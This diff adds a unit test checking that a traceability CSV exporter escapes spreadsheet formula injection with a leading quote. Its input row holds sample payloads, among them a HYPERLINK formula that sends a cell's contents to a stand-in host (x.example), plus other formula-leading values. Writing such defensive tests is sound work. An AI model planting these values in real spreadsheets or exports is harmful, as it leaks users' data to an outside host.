@@ -60,6 +60,12 @@ describe('traceability', () => {
     );
   });
 
+  it('neutralises cells a spreadsheet would run as a formula (=, +, -, @, tab, CR first) with a leading quote', () => {
+    const row: TraceRow = { requirement: '=HYPERLINK("http://x.example/?"&A1,"open")', requirementText: '+1+cmd', phase: '-2', threat: '@SUM(A1)', threatTitle: '\t=1', controlTitle: '\r=1', control: 'CTL-1', verification: 'a=b' };
+    const [, line] = traceabilityCsv([row]).split('\r\n');
+    assert.equal(line, `"'=HYPERLINK(""http://x.example/?""&A1,""open"")",'+1+cmd,'-2,'@SUM(A1),'\t=1,CTL-1,"'\r=1",a=b`);
+  });
+
   it('writes a Markdown table with pipes escaped', () => {
     const [row] = traceabilityRows(indexOf({ 'req.yaml': 'kind: security-requirements\nrequirements:\n  - id: SR-1\n    text: "A | B"\n' }));
     const lines = traceabilityMarkdown([row]).trimEnd().split('\n');
